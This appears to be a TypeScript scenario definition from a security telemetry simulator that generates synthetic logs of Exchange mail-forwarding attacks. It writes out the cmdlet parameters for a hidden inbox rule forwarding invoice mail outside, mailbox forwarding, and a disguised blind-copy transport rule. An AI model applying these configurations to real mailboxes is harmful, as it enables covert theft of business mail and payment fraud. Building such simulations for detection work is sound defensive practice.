// A compromised finance mailbox forwards its mail outside (a hidden inbox rule and mailbox
// forwarding), and a compromised Exchange admin adds a transport rule that blind-copies mail out.
import { mailboxPath } from '../activity/context.js';
import { MINUTE } from '../util/time.js';
import { ATTACKER_IPS, type ScenarioDefinition, sec } from './kit.js';

export const mailForwarding: ScenarioDefinition = {
  name: 'mail-forwarding',
  title: 'Mail forwarded to outside addresses',
  techniques: ['T1114.003', 'T1020', 'T1564.008'],
  description:
    'From an unfamiliar IP, a finance user creates an inbox rule named "." that forwards invoice mail to a personal address and marks it read (New-InboxRule ForwardTo), then turns on mailbox forwarding (Set-Mailbox ForwardingSmtpAddress); an Exchange admin account adds a transport rule that blind-copies outgoing mail to an outside address (New-TransportRule BlindCopyTo).',
  durationMinutes: 60,
  plan(kit, anchor) {
    const { tenant } = kit.g;
    const victim = kit.actor((u) => u.department === 'Finance' && u.adminRoles.length === 0);
    const admin = kit.actor((u) => u.adminRoles.includes('Exchange Administrator'));
    const personal = tenant.outsiders.filter((o) => o.kind === 'personal');
    const drop1 = personal[1]?.email ?? 'collector1@outlook.com';
    const drop2 = personal[2]?.email ?? 'collector2@proton.me';
    const drop3 = personal[3]?.email ?? 'collector3@yahoo.com';
    let t = sec(anchor);
    const ip = ATTACKER_IPS.forwarding;
    kit.push(kit.signIn(t, victim, ip, 0));
    t += 3 * MINUTE;
    kit.push(
      kit.exchange(
        t,
        victim,
        'New-InboxRule',
        `${mailboxPath(tenant, victim)}\\.`,
        [
          ['AlwaysDeleteOutlookRulesBlob', 'False'],
          ['Force', 'False'],
          ['Name', '.'],
          ['SubjectContainsWords', 'invoice;payment;wire'],
          ['ForwardTo', drop1],
          ['MarkAsRead', 'True'],
          ['MoveToFolder', 'RSS Feeds'],
          ['StopProcessingRules', 'True'],
        ],
        ip,
      ),
    );
    t += 4 * MINUTE;
    kit.push(
      kit.exchange(
        t,
        victim,
        'Set-Mailbox',
        mailboxPath(tenant, victim),
        [
          ['Identity', victim.upn],
          ['ForwardingSmtpAddress', `smtp:${drop2}`],
          ['DeliverToMailboxAndForward', 'True'],
        ],
        ip,
      ),
    );
    t += 35 * MINUTE;
    const adminIp = ATTACKER_IPS.forwardingAdmin;
    kit.push(
      kit.signIn(
        t,
        admin,
        adminIp,
        0,
        'Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.4291',
      ),
    );
    t += 2 * MINUTE;
    kit.push(
      kit.exchange(
        t,
        admin,
        'New-TransportRule',
        'Compliance journal copy',
        [
          ['Name', 'Compliance journal copy'],
          ['FromScope', 'InOrganization'],
          ['SentToScope', 'NotInOrganization'],
          ['BlindCopyTo', drop3],
          ['Priority', '0'],
        ],
        adminIp,
      ),
    );
    return { actors: [victim, admin] };
  },
};
